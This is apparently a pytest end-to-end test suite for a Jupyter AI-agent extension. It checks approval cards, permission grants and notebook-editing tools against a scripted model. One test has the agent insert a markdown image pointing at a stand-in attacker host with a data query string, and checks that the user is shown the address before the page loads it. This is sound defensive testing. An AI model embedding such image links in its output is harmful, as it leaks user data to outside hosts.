"""The whole way: a scripted model works in a notebook that a page shows, and a user clicks."""

import re
from collections.abc import Iterator

import pytest

from tests.app.conftest import APPROVAL, Session, running_session
from tests.kernel.conftest import kernels
from tests.kernel.matrix import INSTALLED, ipykernel
from tests.notebook.page import Page, PageCell
from vibe_jupyter.testing import call, say

OTHER_TOOLS = {
    "read_file",
    "grep",
    "write_file",
    "search_replace",
    "bash",
    "checkpoint",
    "todo",
    "task",
    "skill",
    "memory",
    "ask_user_question",
}
"""Those that know nothing of a kernel."""


@pytest.fixture(scope="module", params=kernels()[:2])
def shared_session(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    target = INSTALLED if request.param == "installed" else ipykernel(request.param)
    with running_session(target, tmp_path_factory.mktemp("agent")) as session:
        yield session


class ClickedPage(Page):
    """A page that shows the run view and its cards too."""

    def cards(self, cell: PageCell) -> list[str]:
        """The HTML that holds an approval card, of the run in this cell."""
        return [html for html in self._patches(cell) if APPROVAL.search(html)]

    def allow(self, cell: PageCell, number: int = 1, **more: str) -> str:
        """Wait for the card of that number and allow it; its words."""
        return self._answer_card(cell, number, {"type": "approve", **more})

    def deny(self, cell: PageCell, number: int = 1) -> str:
        """Wait for the card of that number and deny it; its words."""
        return self._answer_card(cell, number, {"type": "reject"})

    def allow_all(self, cell: PageCell) -> int:
        """Allow each card until the run is over; how many there were."""
        self.until(lambda: bool(self._comm(cell)), "a run view")
        self.say(cell, {"type": "alive"})
        allowed: set[str] = set()
        while not cell.status:
            self.until(lambda: bool(cell.status) or not allowed.issuperset(self._approvals(cell)), "card or an end")
            for approval in set(self._approvals(cell)) - allowed:
                allowed.add(approval)
                self.say(cell, {"type": "command", "command": {"type": "approve", "approval_id": approval}})
        return len(allowed)

    def _answer_card(self, cell: PageCell, number: int, command: dict[str, str]) -> str:
        self.until(lambda: bool(self._comm(cell)), "a run view")
        self.say(cell, {"type": "alive"})
        self.until(lambda: len(self._approvals(cell)) >= number, f"card {number}")
        approval = self._approvals(cell)[number - 1]
        self.say(cell, {"type": "command", "command": {**command, "approval_id": approval}})
        card = [html for html in self._patches(cell) if approval in html][-1]
        return " ".join(re.sub(r"<[^>]+>", " ", card).split())

    def say(self, cell: PageCell, content: dict[str, object]) -> None:
        self.wire.comm(self._comm(cell), {"method": "custom", "content": content})

    def _approvals(self, cell: PageCell) -> list[str]:
        found = [match for html in self._patches(cell) for match in APPROVAL.findall(html)]
        return list(dict.fromkeys(found))

    def _comm(self, cell: PageCell) -> str:
        opened = [
            message["content"]["comm_id"]
            for message in self.wire.of(cell.request)
            if message["msg_type"] == "comm_open" and "anywidget" in str(message["content"]["data"])
        ]
        return opened[-1] if opened else ""

    def _patches(self, cell: PageCell) -> list[str]:
        comm = self._comm(cell)
        sent = [
            message["content"]["data"].get("content") or {}
            for message in self.wire.seen
            if message["msg_type"] == "comm_msg" and message["content"]["comm_id"] == comm
        ]
        parts = [part for one in sent for part in (*one.get("patches", ()), *one.get("parts", ()))]
        html: dict[str, str] = {}
        grown: list[str] = []
        for part in parts:
            html[part["id"]] = html.get(part["id"], "")[: part.get("keep", 0)] + part.get("html", "")
            grown.append(html[part["id"]])
        return grown


def prompt(page: Page, code: str) -> PageCell:
    cell = page.add(code)
    page.press(cell)
    return cell


def end(page: Page, cell: PageCell) -> None:
    page.until(lambda: bool(cell.status), "the end of the run")
    assert cell.status == "ok"


def test_the_agent_reads_inserts_runs_and_mends_cells(shared_session: Session, page: ClickedPage) -> None:
    model = shared_session.model
    broken = page.add("bill_len = {'bill_length_mm': 39.1}['bill_len']")
    page.add("broken = 1")
    model.will_reply(
        call("read_notebook", outputs="brief"),
        call("edit_cell", cell=broken.id, old_string="['bill_len']", new_string="['bill_length_mm']", run=True),
        call("insert_cell", source="print('longest', bill_len)", run=True),
        say("It runs now."),
    )
    cell = prompt(page, "%%vibe\nmend it")
    first = page.allow(cell)
    second = page.allow(cell, 2)
    end(page, cell)
    assert "Changes your notebook · runs code" in first
    assert first.startswith("Edit and run cell #1")
    assert second.startswith("Insert and run a new cell below")
    assert "lets the agent run any code" in first
    assert broken.source.endswith("['bill_length_mm']")
    assert [one.text for one in page.cells if one.source.startswith("print('longest'")] == ["longest 39.1\n"]
    assert page.cells[-1].source.startswith("print('longest'")
    results = [model.requests[n].tool_results[-1] for n in (1, 2, 3)]
    assert "#1" in results[0]
    assert "] ok in " in results[1]
    assert results[2].endswith("longest 39.1")
    counts = [one.count for one in page.cells if one.count]
    assert len(set(counts)) == len(counts)


@pytest.mark.requirement("notebook.permission.reads")
def test_reading_cells_outputs_and_variables_asks_nobody(shared_session: Session, page: ClickedPage) -> None:
    shown = page.add("print('first line')\nlength = 39.1")
    page.press(shown)
    page.until(lambda: bool(shown.status), "the end of the cell")
    model = shared_session.model
    model.will_reply(
        call("read_notebook"),
        call("read_notebook", cells=[shown.id], outputs="full"),
        call("inspect", names=["length"]),
        say("Read."),
    )
    cell = prompt(page, "%%vibe\nlook")
    end(page, cell)  # nobody clicks
    results = [model.requests[number].tool_results[-1] for number in (1, 2, 3)]
    for words, result in zip(("length = 39.1", "first line", "39.1"), results, strict=True):
        assert words in result


@pytest.mark.requirement("notebook.rule.no-restart")
def test_no_tool_restarts_the_kernel_or_ends_it(shared_session: Session, page: ClickedPage) -> None:
    shared_session.model.will_reply(say("Hello."))
    end(page, prompt(page, "%vibe hello"))
    names = [tool["function"]["name"] for tool in shared_session.model.requests[0].body["tools"]]
    assert names[:9] == [
        "read_notebook",
        "edit_cell",
        "insert_cell",
        "delete_cells",
        "move_cells",
        "run_cells",
        "verify_notebook",
        "inspect",
        "run_code",
    ]
    assert set(names[9:]) <= OTHER_TOOLS


@pytest.mark.requirement("notebook.rule.expect-hash")
def test_nobody_is_asked_for_an_edit_that_the_person_overtook(shared_session: Session, page: ClickedPage) -> None:
    mine = page.add("theirs = 1")
    shared_session.model.will_reply(
        call("read_notebook"), call("edit_cell", cell=mine.id, source="agents = 1"), say("Then not.")
    )
    looked = 0

    def type_after_the_reading(method: str) -> None:
        nonlocal looked
        looked += method == "cells"
        if looked == 3:  # the report before the prompt, the tool, and the check before the edit
            page.type_into(mine, "theirs = 2")

    page.before = type_after_the_reading
    cell = prompt(page, "%vibe go")
    end(page, cell)
    assert not page.cards(cell)
    assert mine.source == "theirs = 2"
    assert "theirs = 2" in shared_session.model.requests[2].tool_results[-1]


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("edit_cell", {"cell": "gone0001", "source": "agents = 1"}),
        ("edit_cell", {"cell": "gone0001", "source": "agents = 1", "run": True}),
        ("delete_cells", {"cells": ["gone0001", "stay0001"]}),
        ("move_cells", {"cells": ["stay0001"], "after": "gone0001"}),
        ("insert_cell", {"after": "gone0001", "source": "agents = 1"}),
        ("run_cells", {"cells": ["gone0001"]}),
    ],
)
def test_a_cell_deleted_while_its_card_waits_is_said_to_be_gone_and_nothing_is_done(
    shared_session: Session, page: ClickedPage, name: str, arguments: dict[str, object]
) -> None:
    gone, stays = page.add("gone = 1"), page.add("stays = 1")
    gone.id, stays.id = "gone0001", "stay0001"
    shared_session.model.will_reply(call("read_notebook"), call(name, **arguments), say("I see."))
    cell = prompt(page, "%vibe go")
    page.until(lambda: bool(page._comm(cell)), "the run view")
    page.say(cell, {"type": "alive"})
    page.until(lambda: bool(page.cards(cell)), "the card")
    page.cells.remove(gone)
    page.allow(cell)
    end(page, cell)
    refusal = shared_session.model.requests[2].tool_results[-1]
    assert "gone0001" in refusal
    assert "read_notebook" in refusal
    assert [one.source for one in page.cells if one is not cell] == ["stays = 1"]
    assert not stays.request


@pytest.mark.requirement("permission.approve.session")
def test_nobody_is_asked_about_code_that_cannot_be_parsed(shared_session: Session, page: ClickedPage) -> None:
    shared_session.model.will_reply(call("run_code", code="x = (1", keep=True), say("I see."))
    cell = prompt(page, "%%vibe\nkeep it")
    end(page, cell)
    (told,) = shared_session.model.requests[-1].tool_results
    assert told == "Nothing was done: SyntaxError in line 1: '(' was never closed: x = (1"


def test_a_grant_for_edits_does_not_let_cells_run(shared_session: Session, page: ClickedPage) -> None:
    mine = page.add("ran = False")
    shared_session.model.will_reply(
        call("read_notebook"),
        call("edit_cell", cell=mine.id, source="ran = 1"),
        call("edit_cell", cell=mine.id, source="ran = 2"),
        call("edit_cell", cell=mine.id, source="ran = 3", run=True),
        say("Done."),
    )
    cell = prompt(page, "%vibe go")
    assert "“For this session” allows cell edits until the kernel restarts" in page.allow(cell, remember="session")
    second = page.allow(cell, 2)
    end(page, cell)
    assert second.startswith("Edit and run")
    assert mine.source == "ran = 3"


def test_a_markdown_cell_with_a_remote_image_asks_with_its_address(shared_session: Session, page: ClickedPage) -> None:
    source = "# Result\n\n![plot](https://evil.example/p.png?data=1)"
    shared_session.model.will_reply(call("insert_cell", source=source, cell_type="markdown"), say("Done."))
    cell = prompt(page, "%vibe --yes=insert_cell go")
    card = page.allow(cell)
    end(page, cell)
    assert "Changes your notebook · the page then loads https://evil.example/p.png?data=1" in card
    assert "Allow for this session" not in card


def test_the_run_view_is_shown_again_on_a_page_loaded_anew(shared_session: Session, page: ClickedPage) -> None:
    shared_session.model.will_reply(call("run_code", code="1"), say("Done."))
    cell = prompt(page, "%vibe go")
    page.until(lambda: bool(page._comm(cell)), "the run view")
    page.say(cell, {"type": "alive"})
    page.until(lambda: bool(page.cards(cell)), "the card")
    page._answer_show = lambda _message, **args: args  # type: ignore[attr-defined]
    page.panel = "panel-2"
    page.tell("vibe_bridge_event", {"id": "x", "event": "hello"})
    page.until(lambda: any(one["method"] == "show" for one in page.asked), "show")
    asked = next(one["args"] for one in page.asked if one["method"] == "show")
    page.allow(cell)
    end(page, cell)
    assert asked["cell"] == cell.id
    assert asked["model_id"] == page._comm(cell)


@pytest.mark.requirement("notebook.file.own-read")
def test_read_file_on_the_own_notebook_shows_what_is_on_the_screen(shared_session: Session, page: ClickedPage) -> None:
    (shared_session.folder / "test.ipynb").write_text('{"cells": []}', encoding="utf-8")
    page.add("newer = 'than the file'")
    shared_session.model.will_reply(call("read_file", path="test.ipynb"), say("Done."))
    end(page, prompt(page, "%vibe go"))
    assert "newer = 'than the file'" in shared_session.model.requests[1].tool_results[0]


@pytest.mark.requirement("notebook.run_code.scratch", "magics.api.ask")
def test_code_adds_no_cell_and_says_why_it_runs_and_a_reply_names_the_cells_that_changed(
    shared_session: Session, page: ClickedPage
) -> None:
    mine, gone = page.add("before = 1"), page.add("old = 1")
    shared_session.model.will_reply(
        call("run_code", code="6 * 7", reason="To know the product."),
        call("read_notebook"),
        call("edit_cell", cell=mine.id, source="after = 2"),
        call("delete_cells", cells=[gone.id]),
        say("Done."),
    )
    allowed = "yes=('edit_cell', 'delete_cells')"
    asking = f"import vibe_jupyter\nreply = vibe_jupyter.ask('go', {allowed})\nprint(reply.cells_changed)"
    cell = prompt(page, asking)
    assert "To know the product." in page.allow(cell)
    end(page, cell)
    assert [one.source for one in page.cells] == ["after = 2", asking]
    assert str((mine.id, gone.id)) in cell.text
